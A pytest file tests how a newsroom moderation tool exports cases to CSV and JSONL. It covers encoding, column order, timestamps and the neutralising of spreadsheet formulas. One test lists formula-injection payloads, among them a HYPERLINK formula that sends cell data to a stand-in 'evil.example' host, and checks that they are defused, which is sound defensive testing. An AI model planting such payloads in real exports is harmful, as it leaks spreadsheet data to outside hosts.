"""What an export looks like to a spreadsheet and to a program."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from newsroom.exports import COLUMNS, Form, row_of
from newsroom.models import (
    Action,
    Case,
    CaseKind,
    CaseState,
    Part,
    PartKind,
    Sanction,
    SanctionKind,
    Violation,
)
from newsroom.storage.records import Settled

NOON = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
MEMBER = 112233445566778899
CASE = Case(
    id=7,
    guild_id=1,
    kind=CaseKind.REPLY,
    state=CaseState.KEPT_DOWN,
    action=Action.HOLD,
    rule="links",
    member_id=MEMBER,
    member_name="Անի",
    opened_at=NOON,
    parts=(Part(PartKind.CONTENT, 'Look, "here"'), Part(PartKind.POLL, "at\nthis;")),
    violations=(
        Violation("links", "link", Action.HOLD, 1, 0, 0, 4, "Look"),
        Violation("links", "link", Action.HOLD, 1, 1, 0, 2, "at"),
    ),
    sanction=Sanction(SanctionKind.BLOCK),
    removed=True,
)
SETTLED = Settled(points=0, decided_at=NOON + timedelta(hours=1))


def read_csv(written: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(written.decode("utf-8-sig"), newline="")))


def write(form: Form, *cases: Case) -> bytes:
    return form.head + form.write(row_of(case, SETTLED) for case in cases)


def replaced(**changes: Any) -> Case:
    values = {name: getattr(CASE, name) for name in CASE.__slots__}
    return Case(**values | changes)


def test_columns_are_those_of_a_row_in_their_order() -> None:
    assert tuple(row_of(CASE, SETTLED)) == COLUMNS


def test_spreadsheet_is_given_utf_8_with_its_mark_and_every_text_whole() -> None:
    written = write(Form.CSV, CASE)

    assert written.startswith(b"\xef\xbb\xbf")
    (row,) = read_csv(written)
    assert row["member"] == "Անի"
    assert row["text"] == 'Look, "here"\nat\nthis;'
    assert row["evidence"] == "Look; at"
    assert (row["broken"], row["state"], row["sanction"]) == ("links", "kept down", "block")
    assert (row["opened_at"], row["decided_at"]) == ("2026-03-01 12:00:00", "2026-03-01 13:00:00")
    assert (row["removed"], row["appeal"], row["decided_by"]) == ("yes", "", "")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "＝1+1",
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("http://evil.example?"&A1, "Open")',
    ],
)
def test_what_a_spreadsheet_would_compute_is_shown_as_it_was_typed(text: str) -> None:
    case = replaced(
        parts=(Part(PartKind.CONTENT, text),), member_name=text, reason=text, appeal=text
    )

    (row,) = read_csv(write(Form.CSV, case))

    assert [row[key] for key in ("text", "member", "reason", "appeal")] == [f"'{text}"] * 4


def test_numbers_that_a_spreadsheet_would_round_are_texts_and_others_are_not() -> None:
    (row,) = read_csv(write(Form.CSV, CASE))

    assert row["member_id"] == f"'{MEMBER}"
    assert (row["case"], row["points"]) == ("7", "0")


def test_program_is_given_one_object_a_line_with_texts_as_they_are() -> None:
    text = "=1+1\nԱնի"
    written = write(Form.JSONL, replaced(parts=(Part(PartKind.CONTENT, text),)), CASE)

    lines = written.decode("ascii").splitlines()
    first, second = map(json.loads, lines)
    assert tuple(first) == COLUMNS
    assert first["text"] == text
    assert first["member_id"] == str(MEMBER)
    assert first["evidence"] == ["Look", "at"]
    assert first["broken"] == ["links"]
    assert (first["opened_at"], first["appealed_at"]) == ("2026-03-01T12:00:00Z", None)
    assert (second["removed"], second["points"]) == (True, 0)


def test_export_of_nothing_is_its_heading() -> None:
    assert read_csv(write(Form.CSV)) == []
    assert write(Form.JSONL) == b""


def test_sentence_that_the_author_was_written_is_exported() -> None:
    case = replaced(sentence="Please keep to the article.")
    (row,) = read_csv(write(Form.CSV, case))
    assert row["sentence"] == "Please keep to the article."
    assert json.loads(write(Form.JSONL, case))["sentence"] == "Please keep to the article."
    assert json.loads(write(Form.JSONL, CASE))["sentence"] is None
